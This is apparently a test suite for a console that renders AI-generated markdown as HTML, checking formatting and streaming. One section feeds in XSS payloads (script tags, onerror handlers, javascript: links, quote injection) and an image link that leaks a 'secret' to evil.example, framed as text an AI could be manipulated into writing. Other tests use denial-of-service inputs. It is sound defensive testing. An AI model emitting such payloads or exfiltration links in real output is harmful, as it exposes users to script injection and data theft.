// What becomes of an AI's text in the console, as HTML: at once, and piece by piece.
const assert = require("node:assert/strict");

const link = (address, label = address) => `<a href="${address}" title="${address}" target="_blank" rel="noopener noreferrer">${label}</a>`;
const snippet = (language, code, label) => `<div class="snippet"><div class="row spread small muted"><span>${language}</span><button type="button" class="plain tiny">Copy</button></div><pre tabindex="0" aria-label="${label}"><code>${code}</code></pre></div>`;

const CASES = [
  ["one line", "<p>one line</p>"],
  ["one\ntwo\n\n\n\nthree", "<p>one\ntwo</p><p>three</p>"],
  ["# Plums #\ntext\n###### deep\n#no", "<h3>Plums</h3><p>text</p><h6>deep</h6><p>#no</p>"],
  ["a **b** *c* _d_ ~~e~~ `f` snake_case_name 2 * 3 * 4", "<p>a <strong>b</strong> <em>c</em> <em>d</em> <del>e</del> <code>f</code> snake_case_name 2 * 3 * 4</p>"],
  ["**a *b* c** `` x`y `` \\*no\\*", "<p><strong>a <em>b</em> c</strong> <code>x`y</code> *no*</p>"],
  ["- a\n- b\n  - c\n    more\n\n- d\n\nend", "<ul><li>a</li><li>b<ul><li>c\nmore</li></ul></li><li>d</li></ul><p>end</p>"],
  ["3. a\n4) b\n- c", "<ol start=\"3\"><li>a</li><li>b</li></ol><ul><li>c</li></ul>"],
  ["1. do\n\n   ```sh\n   ls -l\n\n     deeper\n   ```\n2. done", `<ol><li>do${snippet("sh", "ls -l\n\n  deeper", "Code, sh")}</li><li>done</li></ol>`],
  ["text\n```\n<b>\n\n# no\n```\nmore", `<p>text</p>${snippet("text", "&lt;b&gt;\n\n# no", "Code")}<p>more</p>`],
  ["~~~rust\nfn main() {}", snippet("rust", "fn main() {}", "Code, rust")],
  ["> a\n> > b\n\nc", "<blockquote><p>a</p><blockquote><p>b</p></blockquote></blockquote><p>c</p>"],
  ["a\n\n---\n\nb", "<p>a</p><hr><p>b</p>"],
  ["| a | b |\n|---|:-:|\n| 1 | **2** |\n\nx", "<div class=\"table\" tabindex=\"0\" role=\"region\" aria-label=\"Table\"><table><thead><tr><th scope=\"col\">a</th><th scope=\"col\">b</th></tr></thead><tbody><tr><td>1</td><td><strong>2</strong></td></tr></tbody></table></div><p>x</p>"],
  ["a | b is no table", "<p>a | b is no table</p>"],
  ["see [the plan](https://a.example/x_(y)) or https://b.example/q?a=1.", `<p>see ${link("https://a.example/x_(y)", "the plan")} or ${link("https://b.example/q?a=1")}.</p>`],
  // What an AI could be made to write.
  ["<img src=x onerror=alert(1)><script>alert(1)</script>", "<p>&lt;img src=x onerror=alert(1)&gt;&lt;script&gt;alert(1)&lt;/script&gt;</p>"],
  ["[a](javascript:alert(1)) [b](data:text/html,x) [c](/api/logout)", "<p><span>a (javascript:alert(1))</span> <span>b (data:text/html,x)</span> <span>c (/api/logout)</span></p>"],
  ["![x](https://evil.example/?secret=1)", `<p>${link("https://evil.example/?secret=1", "picture: x")}</p>`],
  ["[\"onmouseover=alert(1) x=\"](https://a.example/\"onmouseover=alert(1))", `<p>${link("https://a.example/&quot;onmouseover=alert(1)", "\"onmouseover=alert(1) x=\"")}</p>`],
];

// Text that makes a careless reader take for ever.
const HOSTILE = [
  "`".repeat(50000), "*a ".repeat(20000), "[".repeat(50000), "[a](".repeat(20000), "> ".repeat(50000),
  "- ".repeat(50000), " ".repeat(50000) + "x", "#" + " ".repeat(50000) + "x", "|".repeat(50000) + "\n" + "|-".repeat(20000) + "x",
  "**".repeat(30000), "- a\n\n".repeat(20000), "1. a\n   ".repeat(10000), "```\n".repeat(20000), "_".repeat(50000), "~".repeat(50000),
  "https://".repeat(20000), "\\".repeat(50000), "<".repeat(50000), "\n".repeat(50000), "- x\n" + " \n".repeat(30000),
];

// Runs in the page.
async function write({ text, step, within = "p" }) {
  const { prose } = await import("/assets/prose.js");
  const written = prose();
  for (let at = 0; at < text.length; at += step) written.write(text.slice(at, at + step));
  written.end();
  const last = written.element.lastElementChild;
  if (last.className !== "open" || last.childNodes.length > 0) throw new Error("something stays open");
  last.remove();
  const inside = [...written.element.querySelectorAll(within)].map((one) => one.textContent).join("");
  return { html: written.element.innerHTML, inside };
}

/** Everything, in a page of the console. */
module.exports = async (page) => {
  for (const [text, html] of CASES) {
    assert.equal((await page.evaluate(write, { text, step: text.length })).html, html, text);
    assert.equal((await page.evaluate(write, { text, step: 1 })).html, html, `${text}, piece by piece`);
  }
  for (const text of HOSTILE) {
    await page.evaluate(write, { text, step: 5000 });
  }
  // A long answer loses nothing where it is cut into blocks.
  const long = "plums ".repeat(20) + "\n";
  for (const [text, within] of [[long.repeat(1000), "p"], ["```\n" + long.repeat(1000) + "```\n", "pre code"]]) {
    const { inside } = await page.evaluate(write, { text, step: 1000, within });
    assert.equal(inside.split("plums").length - 1, 20000, within);
  }
};
